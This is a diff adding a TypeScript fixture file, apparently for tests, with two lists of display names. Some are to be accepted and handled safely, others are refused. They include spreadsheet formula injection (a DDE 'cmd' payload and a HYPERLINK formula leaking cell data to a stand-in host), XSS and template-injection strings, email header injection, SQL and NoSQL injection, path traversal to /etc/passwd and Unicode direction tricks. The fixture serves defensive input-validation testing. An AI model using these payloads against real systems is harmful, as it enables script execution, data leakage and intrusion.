@@ -1,0 +1,40 @@
+/** What people call themselves to reach a spreadsheet, a page, a mail or a terminal; all of it is allowed in a name. */
+export const HOSTILE_NAMES = [
+  '=HYPERLINK("http://x.example/"&A1,"open")',
+  '+1+cmd|" /C calc"!A0',
+  '-2+3',
+  '@SUM(1+1)*cmd',
+  '＝1+1',
+  '＠SUM(1)',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '</title><svg onload=alert(1)>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '$t(report.title) {{name}}',
+  '<0>$t(report.title)</0>',
+  'javascript:alert(1)',
+  '[link](javascript:alert(1))',
+  'Robert", "admin@example.org',
+  'Ada <eve@evil.example>',
+  '=?utf-8?q?=0d=0aBcc:_eve@evil.example?=',
+  "Robert'); DROP TABLE students;--",
+  '{"$gt": ""}',
+  '../../etc/passwd',
+  '\u200fadA\u200e',
+  'A\u0301\u0301\u0301da',
+  'ﷺ'.repeat(20),
+];
+
+/** What would break a line of a header or a file, or turn a text around: refused as a name. */
+export const REFUSED_NAMES = [
+  'Ada\r\nBcc: x@example.org',
+  'Ada\nBcc: x@example.org',
+  'Ada\rBcc: x@example.org',
+  'Ada\u0000',
+  'Ada\u001b[2J',
+  'Ada\u0085Bcc',
+  'Ada\u2028Bcc',
+  'Ada\u202Egnp.exe',
+  'Ada\u2066gnp.exe',
+  '\ud800',
+];
